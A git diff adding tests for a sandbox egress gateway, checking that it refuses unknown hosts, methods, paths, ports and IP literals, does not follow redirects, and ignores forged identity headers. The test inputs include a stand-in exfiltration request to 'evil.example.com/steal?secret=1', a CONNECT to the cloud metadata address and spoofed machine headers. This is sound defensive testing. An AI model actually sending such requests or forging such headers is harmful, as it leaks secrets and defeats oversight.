@@ -1,11 +1,12 @@
 import { join } from "node:path"
 import { DatabaseSync } from "node:sqlite"
 import { describe, expect, it } from "vitest"
+import { refusalBody } from "../../contract/verdict.ts"
 import { openGuestEgress } from "../fakes/guest.ts"
 import { callHost, startHost } from "../fakes/host-client.ts"
 import { openHostLab, PLACEHOLDER, REAL_KEY } from "../fakes/host-lab.ts"
 import { openFakeProvider } from "../fakes/provider.ts"
-import { openLab } from "./lab.ts"
+import { messagesCall, openLab } from "./lab.ts"
 
 const MESSAGES = {
   authority: "api.anthropic.com",
@@ -81,5 +82,89 @@ describe("a call through the gateway", () => {
       request_sha256: provider.requests[0]?.sha256,
     })
     database.close()
+  })
+
+  it("is refused with a structured 403 that names rule, reason, way out and record", async () => {
+    await using lab = await openLab()
+    const answer = await lab.guest.send({
+      method: "GET",
+      authority: "evil.example.com",
+      path: "/steal?secret=1",
+    })
+    expect(answer.status).toBe(403)
+    expect(answer.headers["stereo-verdict"]).toBe("egress/no-rule")
+    const { error } = refusalBody.parse(JSON.parse(answer.body.toString()))
+    expect(error).toMatchObject({
+      rule: "egress/no-rule",
+      message: expect.stringContaining("evil.example.com"),
+    })
+    expect(error.hint).toContain("policies/egress/")
+    const [row] = await lab.rows()
+    expect(row).toMatchObject({
+      id: error.exchange,
+      outcome: "refused",
+      status: 403,
+      response_sha256: answer.sha256,
+    })
+  })
+
+  it("gets a redirect as it is: nobody follows it on its behalf", async () => {
+    await using lab = await openLab()
+    const answer = await lab.guest.send(messagesCall(`redirect=${lab.provider.url}/elsewhere`))
+    expect(answer).toMatchObject({ status: 302, headers: { location: `${lab.provider.url}/elsewhere` } })
+    expect(lab.provider.requests).toHaveLength(1)
+  })
+
+  it("belongs to the machine whose socket it came by, whatever its headers say", async () => {
+    await using lab = await openLab()
+    const call = messagesCall()
+    const forged = {
+      "stereo-machine": "other",
+      "stereo-run": "other",
+      "stereo-exchange": "not an id",
+      "stereo-process": "x".repeat(9000),
+    }
+    await lab.guest.send({ ...call, headers: { ...call.headers, ...forged } })
+    const [row] = await lab.rows()
+    expect(row).toMatchObject({
+      machine: "lab",
+      run_id: lab.files.record.runId,
+      team: "research",
+      claimed_exchange: null,
+    })
+    expect(row?.claimed_process).toHaveLength(512)
+  })
+
+  it.each(["HEAD", "OPTIONS", "DELETE", "PUT", "PATCH", "TRACE", "PROPFIND"])(
+    "with %s, which no rule names, stays here",
+    async (method) => {
+      await using lab = await openLab()
+      const { body: _none, ...call } = messagesCall()
+      const answer = await lab.guest.send({ ...call, method })
+      expect(answer.headers["stereo-verdict"]).toBe("egress/no-rule")
+      expect(lab.provider.requests).toHaveLength(0)
+    },
+  )
+
+  it("to a path beside the allowed ones of a managed host stays here", async () => {
+    await using lab = await openLab()
+    for (const path of ["/v1/files", "/v1/messages/batches", "/v1/organizations/api_keys", "/v1/messages/"]) {
+      expect((await lab.guest.send({ ...messagesCall(), path })).headers["stereo-verdict"]).toBe(
+        "egress/no-rule",
+      )
+    }
+    expect(lab.provider.requests).toHaveLength(0)
+  })
+})
+
+describe("CONNECT", () => {
+  it("is answered as a question: yes without a body, or the same refusal that the request would get", async () => {
+    await using lab = await openLab()
+    const ask = (authority: string) => lab.guest.send({ method: "CONNECT", authority })
+    expect((await ask("api.anthropic.com:443")).status).toBe(200)
+    expect((await ask("api.anthropic.com:22")).headers["stereo-verdict"]).toBe("egress/connect-port")
+    expect((await ask("evil.example.com:443")).headers["stereo-verdict"]).toBe("egress/no-rule")
+    expect((await ask("169.254.169.254:80")).headers["stereo-verdict"]).toBe("egress/ip-literal")
+    expect((await lab.rows()).map((row) => row.method)).toEqual(["CONNECT", "CONNECT", "CONNECT"])
   })
 })
